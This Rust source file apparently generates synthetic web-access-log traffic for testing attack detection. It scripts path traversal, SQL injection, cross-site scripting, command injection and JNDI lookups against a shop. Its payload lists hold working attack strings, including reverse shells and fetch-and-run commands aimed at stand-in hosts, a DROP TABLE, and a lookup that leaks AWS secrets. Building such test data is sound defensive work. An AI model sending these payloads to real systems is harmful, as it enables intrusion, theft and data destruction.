//! Payloads that make the shop's own code do what it should not.

use crate::generate::agents;
use crate::generate::episode::{Episode, Plan, Script};
use crate::generate::label::Stream::Access;
use crate::generate::stage::{Request, Stage};

pub(super) static PATH_TRAVERSAL: Script = Script {
    plans: &[
        Plan::fast(Access, [20, 50], [100, 900]),
        Plan::slow(Access, [10, 16], [150_000, 360_000]),
        Plan::fast(Access, [20, 40], [500, 3000]).by([8, 15]),
    ],
    agents: agents::SCRIPTS,
    write: |episode, stage| inject(episode, stage, TRAVERSALS),
};

pub(super) static SQL_INJECTION_TOOL: Script = Script {
    plans: &[Plan::fast(Access, [250, 450], [20, 140]), Plan::slow(Access, [50, 70], [30_000, 90_000])],
    agents: &[agents::SQLMAP, agents::CHROME_WINDOWS],
    write: |episode, stage| {
        let chosen = episode.chosen(u64::from(episode.number()));
        let (first, second) = (chosen % 9000 + 1000, (chosen >> 16) % 9000 + 1000);
        let target = match episode.number() % 8 {
            0 => format!("/search?q=lamp%27%20AND%20{first}%3D{first}%20AND%20%27xKqP%27%3D%27xKqP"),
            1 => format!("/search?q=lamp%29%20AND%20{first}%3D{second}%20AND%20%28{first}%3D{first}"),
            2 => format!(
                "/search?q=lamp%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x716a7a7171%2C0x{chosen:016x}%2C0x717a6b7171%29%2CNULL--%20-"
            ),
            3 => format!(
                "/products?category=table%27%20AND%20%28SELECT%20{first}%20FROM%20%28SELECT%28SLEEP%285%29%29%29aBcD%29--%20wXyZ"
            ),
            4 => format!("/products?category=table%20ORDER%20BY%20{}--%20-", first % 40 + 1),
            5 => format!(
                "/api/v1/products?collection=new%27%20AND%20EXTRACTVALUE%28{first}%2CCONCAT%280x5c%2C0x716a7a7171%2C%28SELECT%20%28ELT%28{first}%3D{first}%2C1%29%29%29%29%29--%20qRsT"
            ),
            6 => format!("/search?q=lamp%3BSELECT%20PG_SLEEP%285%29--&page={}", first % 9),
            _ => format!("/products?category=table%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--&ref={second}"),
        };
        let (status, bytes) = if chosen.is_multiple_of(11) { (500, 552) } else { (200, 7204 + chosen % 60) };
        episode.send(stage, "GET", &target, status, bytes);
    },
};

pub(super) static SQL_INJECTION_MANUAL: Script = Script {
    plans: &[Plan::fast(Access, [8, 18], [4000, 25_000]), Plan::slow(Access, [8, 12], [150_000, 400_000])],
    agents: agents::DISGUISES,
    write: |episode, stage| inject(episode, stage, SQL_BY_HAND),
};

pub(super) static CROSS_SITE_SCRIPTING: Script = Script {
    plans: &[
        Plan::fast(Access, [20, 50], [300, 4000]),
        Plan::slow(Access, [8, 14], [150_000, 400_000]),
        Plan::fast(Access, [20, 40], [500, 3000]).by([8, 15]),
    ],
    agents: agents::DISGUISES,
    write: |episode, stage| inject(episode, stage, MARKUP),
};

pub(super) static COMMAND_INJECTION: Script = Script {
    plans: &[
        Plan::fast(Access, [20, 50], [200, 2500]),
        Plan::slow(Access, [8, 14], [150_000, 400_000]),
        Plan::fast(Access, [20, 40], [500, 3000]).by([8, 15]),
    ],
    agents: agents::SCRIPTS,
    write: |episode, stage| inject(episode, stage, COMMANDS),
};

pub(super) static JNDI_LOOKUP: Script = Script {
    plans: &[
        Plan::fast(Access, [12, 36], [100, 1500]),
        Plan::slow(Access, [8, 12], [150_000, 400_000]),
        Plan::fast(Access, [20, 40], [500, 3000]).by([8, 15]),
    ],
    agents: agents::SCRIPTS,
    write: |episode, stage| {
        let lookup = episode.turn(LOOKUPS);
        let in_target;
        let request = match episode.number() % 3 {
            0 => {
                in_target = format!("/?x={lookup}");
                Request { target: &in_target, ..episode.request() }
            }
            1 => Request { agent: lookup, bytes: 18_420, ..episode.request() },
            _ => Request { referrer: lookup, target: "/login", bytes: 4212, ..episode.request() },
        };
        stage.request(&request);
    },
};

fn inject(episode: &Episode, stage: &mut Stage<'_>, targets: &[&str]) {
    let chosen = episode.chosen(u64::from(episode.number()));
    let (status, bytes) = match chosen % 10 {
        0..4 => (200, 7000 + chosen % 900),
        4..7 => (404, 153),
        7..9 => (400, 157),
        _ => (500, 552),
    };
    episode.send(stage, "GET", episode.turn(targets), status, bytes);
}

const TRAVERSALS: &[&str] = &[
    "/../../../../etc/passwd",
    "/images/../../../../../../etc/passwd",
    "/download?file=../../../../etc/passwd",
    "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "/download?file=..%252f..%252f..%252fetc%252fpasswd",
    "/download?file=....//....//....//etc/passwd",
    "/static/..%5c..%5c..%5cwindows%5cwin.ini",
    "/assets/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
    "/index.php?page=../../../../../../proc/self/environ%00",
    "/api/v1/files?path=../../../../var/log/nginx/access.log",
    "/download?file=C:\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "/media/..;/..;/WEB-INF/web.xml",
    "/download?file=/etc/passwd",
];

const SQL_BY_HAND: &[&str] = &[
    "/search?q=lamp%27%20OR%20%271%27=%271",
    "/search?q=lamp%27%20OR%201=1--%20-",
    "/search?q=lamp%27%20ORDER%20BY%206--%20-",
    "/search?q=lamp%27+UNION+SELECT+1,2,3,4--+-",
    "/search?q=lamp%27/**/UNION/**/SELECT/**/null,version(),null--",
    "/search?q=-1%27+union+all+select+1,group_concat(table_name),3+from+information_schema.tables--+-",
    "/search?q=lamp%2527%2520OR%25201%253D1--",
    "/products?category=table%27%20AND%20SLEEP(5)--%20-",
    "/products?category=table%27;DROP%20TABLE%20orders;--",
    "/api/v1/products?collection=new%27%20AND%201=CAST((SELECT%20current_user)%20AS%20int)--",
    "/account?id=1%27%20and%20extractvalue(1,concat(0x7e,(select%20user())))--%20-",
    "/account?id=1%20or%20benchmark(5000000,md5(1))",
];

const MARKUP: &[&str] = &[
    "/search?q=<script>alert(1)</script>",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "/search?q=%22%3E%3Cscript%20src=//evil.example/x.js%3E%3C/script%3E",
    "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "/search?q=%22%3E%3Csvg/onload=alert`1`%3E",
    "/search?q=%253Cscript%253Ealert(1)%253C/script%253E",
    "/search?q=javascript:alert(document.domain)",
    "/help/contact?name=%3Ciframe%20src=javascript:alert(1)%3E",
    "/login?next=javascript:eval(atob('YWxlcnQoMSk='))",
    "/search?q=%3Cbody%20onload%3Dalert(1)%3E",
    "/search?q=%27-alert(1)-%27%3Cdetails%20open%20ontoggle=alert(1)%3E",
    "/journal/our-glassblowers?ref=%3Ca%20href=%22javascript:alert(1)%22%20onmouseover=alert(1)%3E",
];

const COMMANDS: &[&str] = &[
    "/api/v1/labels?printer=;id",
    "/api/v1/labels?printer=%7Cid",
    "/api/v1/labels?printer=`id`",
    "/api/v1/labels?printer=$(id)",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/ping?host=127.0.0.1%26%26whoami",
    "/ping?host=127.0.0.1%7Cuname%20-a",
    "/ping?host=;wget%20http://198.18.255.1/x.sh%20-O-%20%7C%20sh",
    "/ping?host=;curl+-s+http://198.18.255.1/a|bash",
    "/cgi-bin/status?cmd=;cd%20/tmp;rm%20-rf%20*;wget%20http://198.18.255.1/bins.sh;sh%20bins.sh",
    "/api/v1/labels?printer=$%7BIFS%7D;nc%20-e%20/bin/sh%20198.18.255.1%204444",
    "/api/v1/labels?printer=;bash%20-i%20%3E%26%20/dev/tcp/198.18.255.1/4444%200%3E%261",
    "/ping?host=127.0.0.1%0Acat%20/etc/passwd",
    "/ping?host=%26%20powershell%20-enc%20SQBFAFgA",
];

const LOOKUPS: &[&str] = &[
    "${jndi:ldap://198.18.255.1:1389/a}",
    "${jndi:rmi://198.18.255.1:1099/obj}",
    "${jndi:dns://x.evil.example}",
    "${${lower:j}ndi:${lower:l}dap://198.18.255.1/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.18.255.1/z}",
    "${jndi:${lower:l}${lower:d}ap://evil.example/${env:AWS_SECRET_ACCESS_KEY}}",
    "$%7Bjndi:ldap://198.18.255.1:1389/Basic/Command/Base64/d2hvYW1p%7D",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.18.255.1/b}",
];
